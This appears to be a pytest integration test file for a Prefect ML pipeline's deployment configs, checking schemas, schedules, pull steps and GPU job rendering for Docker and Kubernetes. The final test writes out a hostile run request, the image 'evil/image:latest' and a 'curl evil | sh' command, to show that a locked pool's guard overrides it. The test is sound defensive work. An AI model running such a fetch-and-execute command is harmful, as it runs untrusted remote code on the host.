"""prefect.yaml and deploy/gpu.prefect.yaml, loaded the way `prefect deploy` loads them: deployment names
and entrypoints, the variables each requires at deploy time, the GPU deployments' concurrency limit,
parameters valid against each flow's schema, the nightly cron, real pull-step functions, and
GPU work-pool job variables rendered by the docker/kubernetes workers' own code into a
container with GPUs running the image by digest. No server, Docker engine or cluster is used:
the engine's only stand-in answers its version, and rendered Kubernetes Jobs are validated
against the Kubernetes schema."""

from __future__ import annotations

import asyncio
import importlib
import inspect
import io
import json
import re
import shlex
import uuid

import pytest
import yaml

pytestmark = pytest.mark.integration

DIGEST = "sha256:" + "5e" * 32
ENV = {
    "TRAINFLOW_IMAGE": f"registry.example/ml/trainflow:2026.11@{DIGEST}",
    "TRAINFLOW_IMAGE_DIGEST": DIGEST,
    "MLFLOW_TRACKING_URI": "http://mlflow.ml.svc:5000",
    "TRAINFLOW_GIT_REPO": "https://git.example/ml/trainflow.git",
    "TRAINFLOW_GIT_SHA": "0" * 40,
    "TRAINFLOW_REPO_DIR": "/srv/trainflow",
}


class NoPrefectApi:
    """Rendering a job template must not need the Prefect API (no block or variable references)."""

    def __getattr__(self, name):
        raise AssertionError(f"rendering the job template called the Prefect API: {name}")


class DockerEngineVersion:
    """The one thing of a Docker engine the docker worker asks while building container settings."""

    def version(self):
        return {"Version": "28.2.2", "ApiVersion": "1.50"}


# The process pool's deployments (`prefect deploy --all` needs only that pool) and the GPU ones.
FILES = {"prefect.yaml": {"train", "retrain-nightly", "ci"},
         "deploy/gpu.prefect.yaml": {"train-gpu-docker", "train-gpu-k8s"}}


def load(repo_root, env):
    """(deployments by name, top-level actions by file) as `prefect deploy --prefect-file F` sees them in
    environment ``env``; each deployment's ``pull`` is the one it gets (its own, else its file's) and
    ``file`` names its prefect file."""
    from prefect.cli.deploy._config import _load_deploy_configs_and_actions, _merge_with_default_deploy_config
    from prefect.utilities.templating import apply_values
    from rich.console import Console

    deps, actions = {}, {}
    for rel in FILES:
        out = io.StringIO()
        configs, actions[rel] = _load_deploy_configs_and_actions(repo_root / rel, console=Console(file=out))
        assert out.getvalue() == "", f"prefect's loader complained about {rel}: {out.getvalue()}"
        with pytest.MonkeyPatch.context() as mp:  # `{{ $VAR }}` is read from os.environ itself
            for key in ENV:
                mp.delenv(key, raising=False)
            for key, value in env.items():
                mp.setenv(key, value)
            for c in configs:
                c = apply_values(_merge_with_default_deploy_config({"pull": actions[rel]["pull"], **c}), {},
                                 remove_notset=False)
                deps[c["name"]] = {**c, "file": rel}
    return deps, actions


@pytest.fixture(scope="module")
def deployments(repo_root):
    return load(repo_root, ENV)


def _flow(repo_root, entrypoint, monkeypatch):
    from prefect.flows import load_flow_from_entrypoint

    monkeypatch.chdir(repo_root)
    return load_flow_from_entrypoint(entrypoint)


def test_deployments_and_entrypoints(deployments, repo_root):
    deps, _ = deployments
    assert {rel: {n for n, d in deps.items() if d["file"] == rel} for rel in FILES} == FILES
    assert deps["retrain-nightly"]["entrypoint"] == "flows/retrain.py:retrain"
    for name in ("train", "ci", "train-gpu-docker", "train-gpu-k8s"):
        assert deps[name]["entrypoint"] == "flows/pipeline.py:pipeline"
    for name in ("train", "retrain-nightly", "ci"):
        assert deps[name]["work_pool"]["name"] == "process"
    assert deps["train-gpu-docker"]["work_pool"]["name"] == "gpu-docker"
    assert deps["train-gpu-k8s"]["work_pool"]["name"] == "gpu-k8s"
    assert all(d["enforce_parameter_schema"] for d in deps.values())


@pytest.mark.parametrize("name", ["train", "retrain-nightly", "ci", "train-gpu-docker", "train-gpu-k8s"])
def test_parameters_validate_against_the_flow_schema(deployments, repo_root, monkeypatch, name):
    from prefect.utilities.callables import parameter_schema
    from prefect.utilities.schema_tools.validation import ValidationError, validate

    dep = deployments[0][name]
    path, _, func = dep["entrypoint"].partition(":")
    if not (repo_root / path).is_file():
        pytest.skip(f"{path} is not on this branch yet")  # flows/retrain.py arrives with the retrain work
    flow = _flow(repo_root, dep["entrypoint"], monkeypatch)
    schema = parameter_schema(flow).model_dump_for_openapi()
    validate(dep["parameters"], schema, raise_on_error=True)  # what enforce_parameter_schema does
    props = next(iter(schema["definitions"].values()))["properties"]
    assert {"config", "epochs", "promotion"} <= set(props) and not {"overrides", "config_path", "image"} & set(props)
    # The same check refuses a value the form would not allow.
    with pytest.raises(ValidationError, match="promotion"):
        validate({"params": {**dep["parameters"].get("params", {}), "promotion": "sometimes"}}, schema,
                 raise_on_error=True)


def test_ci_deployment_is_short_and_never_promotes(deployments):
    from flows.params import PipelineParams

    params = PipelineParams.model_validate(deployments[0]["ci"]["parameters"]["params"])
    assert params.overrides() == ["training.epochs=6", "registry.promotion=manual"]


def test_retrain_runs_nightly_on_a_cron(deployments):
    from prefect.cli.deploy._schedules import _schedule_config_to_deployment_schedule
    from prefect.client.schemas.schedules import CronSchedule

    deps, _ = deployments
    schedules = [_schedule_config_to_deployment_schedule(s) for s in deps["retrain-nightly"]["schedules"]]
    assert len(schedules) == 1 and isinstance(schedules[0]["schedule"], CronSchedule)
    assert schedules[0]["schedule"].cron == "0 3 * * *" and schedules[0]["schedule"].timezone == "UTC"
    assert schedules[0]["active"] is True
    assert not [n for n, d in deps.items() if d.get("schedules") and n != "retrain-nightly"]


def _check_steps(steps):
    """Each step names a real Prefect step function and its arguments bind to it."""
    names = []
    for step in steps:
        (fqn, kwargs), = step.items()
        module, _, attr = fqn.rpartition(".")
        fn = getattr(importlib.import_module(module), attr)
        inspect.signature(fn).bind(**{k: v for k, v in kwargs.items() if k not in ("id", "requires")})
        names.append(fqn.rsplit(".", 1)[-1])
    return names


def test_pull_steps_checkout_then_dvc_pull(deployments):
    deps, _ = deployments
    for name in ("train", "retrain-nightly", "ci"):
        assert _check_steps(deps[name]["pull"]) == ["set_working_directory", "run_shell_script"]
        assert deps[name]["pull"][-1]["prefect.deployments.steps.run_shell_script"]["script"].startswith("dvc pull")
    for name in ("train-gpu-docker", "train-gpu-k8s"):
        pull = deps[name]["pull"]
        assert _check_steps(pull) == ["git_clone", "set_working_directory", "run_shell_script"]
        clone = pull[0]["prefect.deployments.steps.git_clone"]
        assert clone["repository"] == ENV["TRAINFLOW_GIT_REPO"] and clone["commit_sha"] == ENV["TRAINFLOW_GIT_SHA"]
        assert pull[1]["prefect.deployments.steps.set_working_directory"]["directory"] == "{{ clone.directory }}"
        assert pull[2]["prefect.deployments.steps.run_shell_script"]["script"].startswith("dvc pull")


def _flow_run():
    from prefect.client.schemas.objects import FlowRun

    return FlowRun(id=uuid.uuid4(), name="nightly-otter", flow_id=uuid.uuid4())


def _validate_job_variables(job_variables, template):
    from prefect.utilities.schema_tools.validation import validate

    # What the server does when the deployment is created.
    validate(job_variables, template["variables"], raise_on_error=True, ignore_required=True)


def test_docker_gpu_job_requests_all_gpus_and_runs_the_image(deployments, monkeypatch):
    from docker.models.containers import _create_container_args
    from prefect_docker.worker import DockerWorker, DockerWorkerJobConfiguration

    from core.manifest import image_from_env

    job_variables = deployments[0]["train-gpu-docker"]["work_pool"]["job_variables"]
    template = DockerWorker.get_default_base_job_template()
    _validate_job_variables(job_variables, template)
    config = asyncio.run(DockerWorkerJobConfiguration.from_template_and_values(
        template, job_variables, client=NoPrefectApi()))
    config.prepare_for_flow_run(_flow_run())
    settings = DockerWorker._build_container_settings(None, DockerEngineVersion(), config)
    create = _create_container_args({**settings, "version": "1.50"})  # docker-py's own translation
    host = create["host_config"]
    assert host["DeviceRequests"] == [{"Driver": "nvidia", "Count": -1, "DeviceIDs": [],
                                       "Capabilities": [["gpu"]], "Options": {}}]
    assert host["ShmSize"] == 8 * 1024 ** 3
    assert create["image"] == ENV["TRAINFLOW_IMAGE"] and "@sha256:" in create["image"]
    # CMD is replaced, the image's entrypoint (tini) stays.
    assert shlex.split(create["command"]) == ["prefect", "flow-run", "execute"]
    env = create["environment"]
    for key in ("TRAINFLOW_IMAGE", "TRAINFLOW_IMAGE_DIGEST", "MLFLOW_TRACKING_URI"):
        assert env[key] == ENV[key]
    monkeypatch.setenv("TRAINFLOW_IMAGE", env["TRAINFLOW_IMAGE"])
    monkeypatch.setenv("TRAINFLOW_IMAGE_DIGEST", env["TRAINFLOW_IMAGE_DIGEST"])
    assert image_from_env().digest == DIGEST  # what the run's manifest records inside the container


@pytest.fixture(scope="module")
def k8s_template(repo_root):
    return json.loads((repo_root / "deploy" / "k8s-gpu-job-template.json").read_text())


def test_k8s_gpu_template_extends_the_worker_default(k8s_template):
    from prefect_kubernetes.worker import KubernetesWorker

    default = KubernetesWorker.get_default_base_job_template()
    assert set(default["variables"]["properties"]) <= set(k8s_template["variables"]["properties"])
    assert set(default["job_configuration"]) == set(k8s_template["job_configuration"])
    for name in ("gpu_limit", "shm_size", "node_selector"):
        assert name in k8s_template["variables"]["properties"]


def _render_k8s(job_variables, template):
    from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

    config = asyncio.run(KubernetesWorkerJobConfiguration.from_template_and_values(
        template, job_variables, client=NoPrefectApi()))
    config.prepare_for_flow_run(_flow_run())
    return config.job_manifest


def test_k8s_gpu_job_requests_gpus_and_validates(deployments, k8s_template):
    import kubernetes_validate

    job_variables = deployments[0]["train-gpu-k8s"]["work_pool"]["job_variables"]
    _validate_job_variables(job_variables, k8s_template)
    manifest = _render_k8s(job_variables, k8s_template)
    version = kubernetes_validate.latest_version()
    kubernetes_validate.validate(manifest, version, strict=False)
    # prefect-kubernetes 0.8 insists on completions/parallelism inside the pod spec (its own
    # validator checks those paths); the API server ignores them there with a warning. Everything
    # else must pass the strict schema, where any unknown field fails.
    strict = json.loads(json.dumps(manifest))
    pod = strict["spec"]["template"]["spec"]
    assert (pod.pop("completions"), pod.pop("parallelism")) == (1, 1)
    kubernetes_validate.validate(strict, version, strict=True)
    c = pod["containers"][0]
    assert c["resources"]["limits"]["nvidia.com/gpu"] == 8
    assert c["image"] == ENV["TRAINFLOW_IMAGE"] and "@sha256:" in c["image"]
    assert c["args"] == ["prefect", "flow-run", "execute"]  # the image's entrypoint (tini) stays
    env = {e["name"]: e.get("value") for e in c["env"]}
    assert env["TRAINFLOW_IMAGE_DIGEST"] == DIGEST and env["MLFLOW_TRACKING_URI"] == ENV["MLFLOW_TRACKING_URI"]
    assert {"name": "dshm", "mountPath": "/dev/shm"} in c["volumeMounts"]


def test_pool_schemas_refuse_bad_job_variables(deployments, k8s_template):
    from prefect.utilities.schema_tools.validation import ValidationError

    job_variables = deployments[0]["train-gpu-k8s"]["work_pool"]["job_variables"]
    with pytest.raises(ValidationError, match="gpu_limit"):
        _validate_job_variables({**job_variables, "gpu_limit": "eight"}, k8s_template)
    with pytest.raises(ValidationError, match="gpu_limit"):
        _validate_job_variables({**job_variables, "gpu_limit": -1}, k8s_template)


PLACEHOLDER = r"\{\{\s*\$(\w+)\s*\}\}"


def test_every_environment_placeholder_is_documented(repo_root):
    text = "".join((repo_root / rel).read_text() for rel in FILES)
    placeholders = set(re.findall(PLACEHOLDER, text))
    assert placeholders == set(ENV)
    readme = (repo_root / "README.md").read_text()
    assert not [p for p in placeholders if p not in readme]
    # Prefect alone would ship a literal placeholder as the image: hence require_env (next test).
    deps, _ = load(repo_root, {})
    assert deps["train-gpu-k8s"]["work_pool"]["job_variables"]["image"] == "{{ $TRAINFLOW_IMAGE }}"


def test_each_deployment_first_requires_every_variable_it_uses(repo_root):
    """Each deployment's first build step is require_env, naming the deployment and exactly the
    `{{ $VAR }}` of its pull steps and job variables, so a missing one stops `prefect deploy`
    (tests/integration/test_deployment_server.py runs that against a real server)."""
    deps, _ = load(repo_root, {})
    for name, dep in deps.items():
        (fqn, kwargs), = dep["build"][0].items()
        assert fqn == "flows.deploy_steps.require_env" and kwargs["deployment"] == name
        used = set(re.findall(PLACEHOLDER, json.dumps({k: v for k, v in dep.items() if k != "build"})))
        assert used and set(kwargs["names"]) == used, name
        assert _check_steps(dep["build"]) == ["require_env"]


def test_gpu_deployments_run_one_at_a_time_and_queue_the_rest(deployments):
    from prefect.cli.deploy._models import DeploymentConfig

    deps, _ = deployments
    for name in FILES["deploy/gpu.prefect.yaml"]:
        spec = DeploymentConfig.model_validate(deps[name]).concurrency_limit  # how `prefect deploy` reads it
        assert (spec.limit, spec.collision_strategy) == (1, "ENQUEUE"), name
    assert not [n for n in FILES["prefect.yaml"] if deps[n].get("concurrency_limit")]


def test_yaml_has_no_duplicate_anchors_or_keys(repo_root):
    # PyYAML keeps the last of two equal keys silently; a strict load catches a copy-paste slip.
    class Strict(yaml.SafeLoader):
        pass

    def construct_mapping(loader, node, deep=False):
        keys = [loader.construct_object(k, deep=deep) for k, _ in node.value]
        dupes = {k for k in keys if keys.count(k) > 1}
        assert not dupes, f"duplicate keys {dupes} at line {node.start_mark.line + 1}"
        return yaml.SafeLoader.construct_mapping(loader, node, deep)

    Strict.add_constructor(yaml.resolver.BaseResolver.DEFAULT_MAPPING_TAG, construct_mapping)
    for rel in FILES:
        yaml.load((repo_root / rel).read_text(), Loader=Strict)


def test_prefect_deploy_registers_them_on_a_real_server(prefect_api, repo_root, monkeypatch, k8s_template):
    """`prefect deploy` (in-process CLI) against a real Prefect server with the three work pools: the
    process deployments from prefect.yaml, `--prefect-file deploy/gpu.prefect.yaml --all` the GPU ones.
    The server checks each deployment's job variables against its pool's schema."""
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.actions import WorkPoolCreate
    from prefect.exceptions import ObjectAlreadyExists, ObjectNotFound
    from prefect.testing.cli import invoke_and_assert
    from prefect.workers.process import ProcessWorker
    from prefect_docker.worker import DockerWorker

    pools = {"process": ("process", ProcessWorker.get_default_base_job_template()),
             "gpu-docker": ("docker", DockerWorker.get_default_base_job_template()),
             "gpu-k8s": ("kubernetes", k8s_template)}
    names = ["train", "ci", "train-gpu-docker", "train-gpu-k8s"]

    async def create_pools():
        async with get_client() as client:
            for name, (kind, template) in pools.items():
                try:
                    await client.create_work_pool(WorkPoolCreate(name=name, type=kind, base_job_template=template))
                except ObjectAlreadyExists:
                    pass

    async def read():
        async with get_client() as client:
            return {n: await client.read_deployment_by_name(f"trainflow-pipeline/{n}") for n in names}

    async def absent(name):
        async with get_client() as client:
            try:
                await client.read_deployment_by_name(f"trainflow-pipeline/{name}")
            except ObjectNotFound:
                return True
        return False

    asyncio.run(create_pools())
    monkeypatch.chdir(repo_root)
    for key, value in ENV.items():
        monkeypatch.setenv(key, value)
    # An unset variable: the deployment's build step stops the deploy, naming both, before anything is stored.
    monkeypatch.delenv("TRAINFLOW_REPO_DIR")
    failed = invoke_and_assert(["--no-prompt", "deploy", "--name", "ci"], expected_code=1, echo=False)
    out = failed.stdout + failed.stderr
    assert "error: prefect deploy ci: TRAINFLOW_REPO_DIR is not set" in out and "Traceback" not in out
    assert asyncio.run(absent("ci"))
    monkeypatch.setenv("TRAINFLOW_REPO_DIR", ENV["TRAINFLOW_REPO_DIR"])
    invoke_and_assert(["--no-prompt", "deploy", "--name", "train", "--name", "ci"], expected_code=0, echo=False)
    invoke_and_assert(["--no-prompt", "deploy", "--prefect-file", "deploy/gpu.prefect.yaml", "--all"],
                      expected_code=0, echo=False)
    deps = asyncio.run(read())
    for name in ("train-gpu-docker", "train-gpu-k8s"):
        assert deps[name].global_concurrency_limit.limit == 1, name  # what the UI shows as its limit
        assert deps[name].concurrency_options.collision_strategy == "ENQUEUE", name
    assert deps["train"].global_concurrency_limit is None
    k8s, docker = deps["train-gpu-k8s"], deps["train-gpu-docker"]
    assert k8s.work_pool_name == "gpu-k8s" and k8s.job_variables["gpu_limit"] == 8
    assert k8s.job_variables["image"] == ENV["TRAINFLOW_IMAGE"]
    assert docker.job_variables["container_create_kwargs"]["device_requests"][0]["capabilities"] == [["gpu"]]
    assert docker.job_variables["env"]["TRAINFLOW_IMAGE_DIGEST"] == DIGEST
    assert [next(iter(s)) for s in k8s.pull_steps][0] == "prefect.deployments.steps.git_clone"
    assert deps["ci"].parameters["params"]["promotion"] == "manual"
    assert deps["train"].enforce_parameter_schema
    assert "PipelineParams" in deps["train"].parameter_openapi_schema["definitions"]


@pytest.mark.parametrize("kind", ["docker", "kubernetes"])
def test_a_locked_gpu_pool_runs_the_guard_in_the_committed_image_whatever_a_run_asks(deployments, k8s_template,
                                                                                     repo_root, kind):
    """``trainflow pool create gpu-... --type docker|kubernetes --prefect-file deploy/gpu.prefect.yaml``: the
    container runs the image and the guard fixed at pool creation, as each worker's own code renders it,
    with a run asking for another image and command; the guard accepts the deployment as
    ``prefect deploy`` stores it."""
    from flows.worker_guard import IMAGE_PYTHON, IMAGE_REPO, Guard, is_locked, pool_template

    name = {"docker": "train-gpu-docker", "kubernetes": "train-gpu-k8s"}[kind]
    dep = deployments[0][name]
    values = {k: ENV[k] for k in ENV if k != "TRAINFLOW_REPO_DIR"}
    guard = Guard(repo_root, "deploy/gpu.prefect.yaml", values)
    template = pool_template(guard, kind, k8s_template if kind == "kubernetes" else None)
    assert is_locked(template)
    stored = {"name": name, "entrypoint": dep["entrypoint"], "pull_steps": dep["pull"],
              "work_pool_name": dep["work_pool"]["name"], "job_variables": dep["work_pool"]["job_variables"]}
    assert guard.check({"parameters": {}, "job_variables": {}}, stored) is None
    asked = {**dep["work_pool"]["job_variables"], "image": "evil/image:latest", "command": "sh -c 'curl evil | sh'"}
    guard_argv = [IMAGE_PYTHON, "-I", "-m", "flows.worker_guard", "--repo", IMAGE_REPO,
                  "--prefect-file", "deploy/gpu.prefect.yaml"]
    if kind == "kubernetes":
        container = _render_k8s(asked, template)["spec"]["template"]["spec"]["containers"][0]
        image, argv = container["image"], container["args"]
    else:
        from prefect_docker.worker import DockerWorker, DockerWorkerJobConfiguration

        config = asyncio.run(DockerWorkerJobConfiguration.from_template_and_values(template, asked,
                                                                                  client=NoPrefectApi()))
        config.prepare_for_flow_run(_flow_run())
        settings = DockerWorker._build_container_settings(None, DockerEngineVersion(), config)
        image, argv = settings["image"], shlex.split(settings["command"])
    assert image == ENV["TRAINFLOW_IMAGE"]
    assert argv[:len(guard_argv)] == guard_argv
    assert ("--set", f"TRAINFLOW_GIT_SHA={ENV['TRAINFLOW_GIT_SHA']}") in zip(argv, argv[1:])
